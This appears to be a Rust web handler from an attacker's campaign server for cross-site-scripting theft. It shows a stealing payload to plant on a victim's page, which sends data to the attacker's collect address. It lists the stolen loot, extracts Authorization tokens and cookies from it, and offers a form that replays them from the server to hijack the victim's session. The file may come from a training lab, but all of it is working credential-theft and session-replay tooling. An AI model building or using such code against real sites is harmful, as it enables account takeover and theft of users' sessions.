//! The inbox of a campaign: what was stolen, and what it opened when it was tried.

use std::sync::Arc;

use axum::Json;
use axum::extract::{Path, State};
use axum::http::{HeaderMap, StatusCode, header};
use axum::response::{IntoResponse, Response};
use domain::{Loot, Replay};
use leptos::prelude::*;

use super::Attacker;
use super::page::document;
use super::payload::Payload;
use super::replay::Stolen;

/// `GET /campaigns/{campaign}`: for a person as a page, for a program as JSON. Whoever knows the name may read it.
pub(super) async fn inbox(
    State(attacker): State<Arc<Attacker>>,
    Path(name): Path<String>,
    headers: HeaderMap,
) -> Response {
    let Some(campaign) = attacker.campaigns().find(&name) else {
        return StatusCode::NOT_FOUND.into_response();
    };
    let accept = headers.get(header::ACCEPT).and_then(|value| value.to_str().ok()).unwrap_or_default();
    if accept.starts_with("application/json") {
        return Json(campaign).into_response();
    }
    let payload = Payload::Steal.html(&attacker.collect_address(&name));
    let replays = format!("/campaigns/{name}/replays");
    let empty = campaign.loot.is_empty().then_some("Nothing yet.");
    let loot = campaign.loot.into_iter().rev().map(|loot| view! { <Piece loot action=replays.clone()/> });
    document(
        "Inbox",
        view! {
            <h1>"Inbox"</h1>
            <p>"Post this on the victim’s wall. Whatever a script can read there comes here."</p>
            <pre>{payload}</pre>
            <p>{empty} " " <a href=format!("/campaigns/{name}")>"Look again"</a></p>
            {loot.collect_view()}
            <h2>"Tried out"</h2>
            <p>"Sent from this server, without the victim’s browser."</p>
            {campaign.replays.into_iter().rev().map(|replay| view! { <Tried replay/> }).collect_view()}
            <form method="post" action=format!("/campaigns/{name}/end")>
                <button type="submit">"Forget all of it"</button>
            </form>
        },
    )
    .into_response()
}

/// One piece of loot, and a console to try it with.
#[component]
fn Piece(loot: Loot, action: String) -> impl IntoView {
    let Stolen { authorization, cookie } = Stolen::in_text(&loot.text);
    view! {
        <article>
            <h2>{format!("Loot {}", loot.number)}</h2>
            <p>{loot.from.map(|from| format!("from {from}"))}</p>
            <pre>{loot.text}</pre>
            <form method="post" action=action>
                <label>"Ask for" <input name="path" value="/api/jwt/profile/me"/></label>
                <label>"Authorization" <input name="authorization" value=authorization/></label>
                <label>"Cookie" <input name="cookie" value=cookie/></label>
                <button type="submit">"Try it out"</button>
            </form>
        </article>
    }
}

/// What a replay came to.
#[component]
fn Tried(replay: Replay) -> impl IntoView {
    let status = replay.status.map_or("no answer".to_owned(), |status| status.to_string());
    view! {
        <article>
            <h3>{format!("GET {} → {status}", replay.path)}</h3>
            <pre>{replay.answer}</pre>
        </article>
    }
}
